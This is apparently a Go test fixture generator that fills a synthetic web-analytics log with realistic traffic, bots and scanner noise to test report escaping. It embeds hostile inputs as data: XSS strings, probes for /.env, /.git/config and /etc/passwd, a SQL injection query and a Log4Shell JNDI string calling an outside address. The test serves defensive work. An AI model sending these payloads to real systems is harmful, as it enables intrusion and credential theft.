package report

import (
	"fmt"
	"math"
	"math/rand/v2"
	"time"
)

// Text that would break out of an element, an attribute, a script or a style if
// anything on the way to the page forgot to escape it.
var hostile = []string{
	`/</script><img src=x onerror="window.broken=1">`,
	`/"><svg onload=window.broken=1>`,
	`/'-alert(1)-'{{.}}<!--`,
	`/]]>\u003c/style><script>window.broken=1</script>`,
	"/\u2028\u2029&lt;b&gt;",
	`/%3Cscript%3Ewindow.broken=1%3C/script%3E`,
}

// farm makes a lake that looks like a small busy site: days and nights, weekends,
// bots, probes, a burst of 5xx, hostile text, lines that cannot be read.
func farm(seed uint64, events, days int) *lake {
	r := rand.New(rand.NewPCG(seed, 1))
	l := &lake{}
	start := time.Date(2025, 8, 15, 0, 0, 0, 0, time.UTC).UnixMilli()
	end := start + int64(days)*dayMs
	s := func(text string) *string { return &text }
	products := rand.NewZipf(r, 1.2, 6, 900)
	bots := []string{"Googlebot", "bingbot", "AhrefsBot", "GPTBot", "UptimeRobot", "<b>bot</b>"}
	sites := []string{"https://www.google.com/", "https://duckduckgo.com/", "https://news.ycombinator.com/item?id=1", "https://t.co/x", "https://shop.example.org/"}
	probes := []string{"/.env", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci", "/a/..%2f..%2fetc/passwd", "/vendor/phpunit/src/eval-stdin.php"}
	burst := start + int64(float64(end-start)*0.62)
	put := func(at int64, e eventRow) {
		if at >= end {
			return
		}
		e.EventTime = at
		if burst <= at && at < burst+2*3600_000 && r.IntN(3) == 0 && e.Path != nil {
			e.Status = 503 - int32(r.IntN(2))
		} else if r.IntN(400) == 0 {
			e.Status = 500
		}
		if e.Status >= 400 || e.Status == 301 {
			e.PageView = false
		}
		if r.IntN(50) > 0 {
			n := int64(math.Exp(7 + 2*r.NormFloat64()))
			if e.Status == 304 {
				n = 0
			}
			e.Bytes = &n
		}
		l.events = append(l.events, e)
	}
	page := func() string {
		switch r.IntN(9) {
		case 0:
			return "/"
		case 1:
			return "/search"
		case 2:
			return "/cart"
		case 3:
			return []string{"/about", "/blog/how-we-measure-latency", "/docs/getting-started", "/pricing"}[r.IntN(4)]
		}
		return fmt.Sprintf("/products/%d", products.Uint64())
	}
	for visit := 0; len(l.events) < events; visit++ {
		at := start + r.Int64N(end-start)
		clock := time.UnixMilli(at).UTC()
		busy := 0.55 - 0.45*math.Cos(2*math.Pi*(float64(clock.Hour())+float64(clock.Minute())/60-3)/24)
		if day := clock.Weekday(); day == 0 || day == 6 {
			busy *= 0.6
		}
		if r.Float64() > busy {
			continue
		}
		visitor := fmt.Sprintf("tok_visitor_k1_%06x", r.IntN(events/12+1))
		switch kind := r.IntN(100); {
		case kind < 14:
			name := bots[min(r.IntN(len(bots)), r.IntN(len(bots)))]
			for range 1 + r.IntN(12) {
				put(at, eventRow{VisitorID: "bot" + visitor, Path: s(page()), Status: 200, Bot: true, BotName: &name, PageView: true})
				at += r.Int64N(40_000)
			}
		case kind < 18:
			for range 1 + r.IntN(8) {
				e := eventRow{VisitorID: "scan" + visitor, Path: s(probes[r.IntN(len(probes))]), Status: 404}
				switch r.IntN(8) {
				case 0:
					e.Path, e.Query, e.Status = s("/search"), s("q=1%27+UNION+SELECT+password+FROM+users--"), 200
				case 1:
					e.Path, e.Request, e.Status = nil, s(`\x16\x03\x01\x02\x00\x01`), 400
				case 2:
					e.Path = s(hostile[r.IntN(len(hostile))])
				case 3:
					e.Path, e.Query = s("/"), s("x=${jndi:ldap://198.51.100.7/a}")
				}
				put(at, e)
				at += r.Int64N(900)
			}
		default:
			var from *string
			if r.IntN(3) > 0 {
				from = s(sites[min(r.IntN(5), r.IntN(5))])
			}
			host := s("shop.example.org")
			for range 1 + int(r.ExpFloat64()*2.2) {
				put(at, eventRow{VisitorID: visitor, Host: host, Path: s(page()), Status: []int32{200, 200, 200, 200, 200, 200, 200, 304, 301}[r.IntN(9)], Referrer: from, PageView: true})
				from = s("https://shop.example.org/")
				for range r.IntN(3) {
					put(at+r.Int64N(900), eventRow{VisitorID: visitor, Host: host, Path: s([]string{"/static/app.js", "/static/site.css", "/img/logo.svg"}[r.IntN(3)]), Status: []int32{200, 304}[r.IntN(2)], Referrer: from})
				}
				if r.IntN(40) == 0 {
					put(at+500, eventRow{VisitorID: visitor, Host: host, Path: s("/img/old-banner.png"), Status: 404, Referrer: from})
				}
				at += int64(1000 * math.Exp(3.4+1.1*r.NormFloat64()))
			}
		}
	}
	for i := range events / 900 {
		reason := []string{"format", "truncated", "truncated", "timestamp", "time_bounds"}[r.IntN(5)]
		l.badRows = append(l.badRows, badRow{"decode", reason, "5f2b9c0e4d7a18b36c91f0e2a4d58b77", int64(i * 181), []string{`9.9.9.9 - - [9/A/9:9:9:9 +9] "A /a`, `\a9\a9\a9 a`, hostile[0]}[r.IntN(3)]})
	}
	for range events / 5000 {
		l.late = append(l.late, lateRow{r.Int64N(600_000)})
	}
	l.rollUp()
	return l
}
